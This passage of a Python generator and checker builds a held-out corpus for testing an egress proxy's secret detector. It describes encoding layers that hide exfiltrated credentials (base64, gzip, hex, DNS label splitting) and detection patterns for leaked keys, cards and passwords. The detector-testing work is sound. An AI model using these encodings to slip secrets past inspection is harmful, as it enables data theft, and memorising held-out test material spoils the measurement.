                if err is None and scan_blob(case_body(case), case["where"] == "hostname"):
                    err = "scanner"
                if err is None and payload_key(case) in seen:
                    err = "dup"
                if err is None:
                    break
                if attempt == 59:
                    raise SystemExit("cannot build negative %s: %s %r" % (name, err, scan_blob(case_body(case), case["where"] == "hostname")))
            seen.add(payload_key(case))
            neg.append(finalize(case, "negative", name))
    rng.shuffle(pos)
    rng.shuffle(neg)
    pos_lines, manifest = [], []
    for i, (d, needle, layers, cname) in enumerate(pos, 1):
        d["id"] = "t9-pos-%04d" % i
        pos_lines.append(json.dumps({k: d[k] for k in ORDER if k in d}, ensure_ascii=False))
        manifest.append(dict(id=d["id"], needle=needle, layers=layers, cls=cname))
    neg_lines = []
    for i, d in enumerate(neg, 1):
        d["id"] = "t9-neg-%04d" % i
        neg_lines.append(json.dumps({k: d[k] for k in ORDER if k in d}, ensure_ascii=False))
    pos_bytes = ("\n".join(pos_lines) + "\n").encode("utf-8")
    neg_bytes = ("\n".join(neg_lines) + "\n").encode("utf-8")
    readme = make_readme(pos, neg, pos_bytes, neg_bytes).encode("utf-8")
    return pos_bytes, neg_bytes, readme, manifest


def _count(items):
    out = {}
    for x in items:
        out[x] = out.get(x, 0) + 1
    return out


def make_readme(pos, neg, pos_bytes, neg_bytes):
    pc = _count(d["expect"] for d, _, _, _ in pos)
    nc = _count(d["expect"] for d in neg)
    pw = _count(d["where"] for d, _, _, _ in pos)
    nw = _count(d["where"] for d in neg)
    L = []
    L.append("# Egress secret-detection held-out corpus — split 9\n")
    L.append("**HELD OUT.** This corpus is for a single, final generalisation measurement of the egress-inspecting proxy's secret detector. "
             "Never tune rules, thresholds, allow-lists or models on it, never copy its cases into development corpora, and report results by class/category only "
             "(per-class recall, per-category false-positive rate) — never quote individual cases.\n")
    L.append("## Files\n")
    L.append("| file | lines | sha256 |\n|---|---|---|")
    L.append("| positives.jsonl | %d | %s |" % (len(pos), hashlib.sha256(pos_bytes).hexdigest()))
    L.append("| negatives.jsonl | %d | %s |" % (len(neg), hashlib.sha256(neg_bytes).hexdigest()))
    L.append("| generate.py | — | (generator and checker) |\n")
    L.append("Regenerate (deterministic, seed %d, gzip mtime=0; output is byte-identical on every run):\n" % SEED)
    L.append("    nice python3 generate.py          # writes positives.jsonl, negatives.jsonl, README.md, then runs the checker")
    L.append("    nice python3 generate.py --check  # checker only\n")
    L.append("## Line format (JSON Lines, one case per line)\n")
    L.append("- `id`: `t9-pos-NNNN` / `t9-neg-NNNN`, sequential from 0001 after shuffling within each file.")
    L.append("- `label`: `positive` | `negative`.")
    L.append("- `expect`: positives — kebab-case credential/data class; negatives — kebab-case benign category.")
    L.append("- `where`: `body` | `url` | `header` | `hostname`.")
    L.append("- `content_type` (optional, bodies only).")
    L.append("- `content_encoding` (optional, `gzip` or `deflate` = zlib-wrapped; only together with `base64`).")
    L.append("- exactly one of `text` (UTF-8 string) or `base64` (raw body bytes, standard base64).")
    L.append("- `header` cases are one ASCII `Name: value` line; `url` cases are absolute http(s) ASCII URLs with valid percent escapes; `hostname` cases are bare LDH hostnames.\n")
    L.append("## Split by `where`\n")
    L.append("| where | positives | negatives |\n|---|---|---|")
    for w in ("body", "url", "header", "hostname"):
        L.append("| %s | %d | %d |" % (w, pw.get(w, 0), nw.get(w, 0)))
    L.append("")
    L.append("## Positive classes (%d classes, %d cases)\n" % (len(pc), len(pos)))
    L.append("| class | count |\n|---|---|")
    for k in sorted(pc):
        L.append("| %s | %d |" % (k, pc[k]))
    L.append("")
    L.append("## Negative categories (%d categories, %d cases)\n" % (len(nc), len(neg)))
    L.append("| category | count |\n|---|---|")
    for k in sorted(nc):
        L.append("| %s | %d |" % (k, nc[k]))
    L.append("")
    L.append("## Labelling rule (egress)\n")
    L.append("- Positive: anything that would leak a usable credential, or a sensitive financial / exfiltration payload, if sent out — including documented example keys and well-known test values (vendor-doc example keys, test card numbers, example IBANs).")
    L.append("- An unmistakable vendor prefix followed by enough characters of that key's alphabet is positive even with a bad checksum or low-entropy filler.")
    L.append("- Passwords and generic keys are positive only where a field or context names them as secrets and the value looks like a real credential; ambiguous dummy words appear in neither file.")
    L.append("- Negative: realistic benign egress that superficially resembles secrets (identifiers, digests, hashed asset paths, cursors, public keys, publishable keys, masked values and placeholders that use only characters outside the key alphabet, prose and code that merely name secrets, checksum-invalid look-alikes, and ordinary API traffic).")
    L.append("- Positives may be wrapped in decoding layers (percent / double-percent, form encoding, standard and url-safe base64, base64 of gzip, hex, JSON `\\u` escapes, HTML character references, quoted-printable, gzip/deflate Content-Encoding, DNS label splitting, delimited hex).\n")
    L.append("## What the checker verifies\n")
    L.append("- every line parses as JSON; only allowed keys; exactly one of `text`/`base64`; ids sequential; labels and `where` valid; `content_encoding` only with `base64`;")
    L.append("- strict, canonical base64 and successful gzip/zlib decompression;")
    L.append("- headers, URLs and hostnames are well formed (ASCII, valid percent escapes, LDH labels);")
    L.append("- no duplicate payloads within or across files; files are byte-identical to what the generator produces (README included);")
    L.append("- every positive's secret is recovered mechanically by applying its recorded decoding layers (kept inside the generator) to the case;")
    L.append("- checksummed positives are re-validated: Luhn (cards), ISO 13616 mod-97 with per-country length (IBAN), base58check / bech32 / bech32m (Bitcoin), EIP-55 via a self-implemented Keccak-256 (Ethereum; test vectors asserted), CRC32/base62 (GitHub tokens);")
    L.append("- every negative is scanned through decoding views (percent, form, base64, url-safe base64, gzip, zlib, hex, JSON escapes, HTML references, quoted-printable; two levels deep) for accidental secrets: Luhn-valid 13–19 digit runs, valid IBANs, valid base58check/bech32 addresses, `0x`+40 hex, vendor prefixes followed by key characters, decodable Basic credentials, URL userinfo passwords, long random values under secret-named fields, and high-entropy hostname labels; flagged negatives are regenerated at build time.\n")
    L.append("## Independence statement\n")
    L.append("This corpus was written from public knowledge of credential formats (vendor documentation) and exfiltration techniques only. "
             "Its author did not read the detector's source, rules, tests, other corpora or git history, and did not run any detector while building it. "
             "All random values are synthetic (apart from widely published documentation example values); it contains no PEM armour, no real private keys and no seed phrases.")
    return "\n".join(L) + "\n"


# ---------------------------------------------------------------- checker
def check():
    errors = []
    assert keccak256(b"").hex() == "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"
    assert eip55("5aaeb6053f3e94c9b9a09f33669435e7ef1beaed") == "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"
    assert btc_ok("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa") and segwit_ok("bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0")
    assert iban_ok("GB82WEST12345698765432") and luhn_ok("4111111111111111")
    pos_b, neg_b, readme_b, manifest = generate()
    disk = {}
    for path, exp in ((POS_FILE, pos_b), (NEG_FILE, neg_b), (README_FILE, readme_b)):
        with open(path, "rb") as f:
            disk[path] = f.read()
        if disk[path] != exp:
            errors.append("%s differs from generator output" % os.path.basename(path))
    man = {m["id"]: m for m in manifest}
    cls_by_name = {c["name"]: c for c in CLASSES}
    seen = {}
    for path, prefix, label in ((POS_FILE, "t9-pos-", "positive"), (NEG_FILE, "t9-neg-", "negative")):
        lines = disk[path].decode("utf-8").split("\n")
        if lines[-1] != "":
            errors.append("%s: missing final newline" % path)
        lines = lines[:-1]
        for i, line in enumerate(lines, 1):
            try:
                d = json.loads(line)
            except ValueError:
                errors.append("%s:%d does not parse" % (path, i))
                continue
            if set(d) - ALLOWED:
                errors.append("%s:%d extra keys" % (path, i))
            if d.get("id") != "%s%04d" % (prefix, i):
                errors.append("%s:%d id not sequential" % (path, i))
            if d.get("label") != label or not re.fullmatch(r"[a-z0-9]+(?:-[a-z0-9]+)*", d.get("expect", "")):
                errors.append("%s label/expect" % d.get("id"))
            err = wellformed(d)
            if err:
                errors.append("%s malformed: %s" % (d["id"], err))
                continue
            k = payload_key(d)
            if k in seen:
                errors.append("%s duplicates %s" % (d["id"], seen[k]))
            seen[k] = d["id"]
            body = case_body(d)
            if label == "positive":
                m = man.get(d["id"])
                if not m or m["cls"] != d["expect"]:
                    errors.append("%s manifest mismatch" % d["id"])
                    continue
                if not any(m["needle"] in b for b in follow(body, m["layers"])):
                    errors.append("%s secret not recoverable through %s" % (d["id"], m["layers"]))
                v = cls_by_name[d["expect"]]["validator"]
                if v and not v(m["needle"].decode()):
                    errors.append("%s checksum validation failed" % d["id"])
            else:
                hits = scan_blob(body, d["where"] == "hostname")
                if hits:
                    errors.append("%s negative contains accidental secret: %s" % (d["id"], hits[:2]))
    np_ = disk[POS_FILE].count(b"\n")
    nn_ = disk[NEG_FILE].count(b"\n")
    for blob in (disk[POS_FILE], disk[NEG_FILE], disk[README_FILE]):
        if b"-----BEGIN" in blob or b"PRIVATE KEY-----" in blob:
            errors.append("PEM armour present")
    if errors:
        print("CHECK FAILED (%d problems)" % len(errors))
        for e in errors[:50]:
            print("  " + e)
        return 1
    print("CHECK PASSED: %d positives, %d negatives" % (np_, nn_))
    print("positives.jsonl sha256 %s" % hashlib.sha256(disk[POS_FILE]).hexdigest())
    print("negatives.jsonl sha256 %s" % hashlib.sha256(disk[NEG_FILE]).hexdigest())
    return 0


def main():
    if "--check" in sys.argv[1:]:
        sys.exit(check())
    pos_b, neg_b, readme_b, _ = generate()
    for path, data in ((POS_FILE, pos_b), (NEG_FILE, neg_b), (README_FILE, readme_b)):
        with open(path, "wb") as f:
            f.write(data)
    sys.exit(check())


if __name__ == "__main__":
    main()
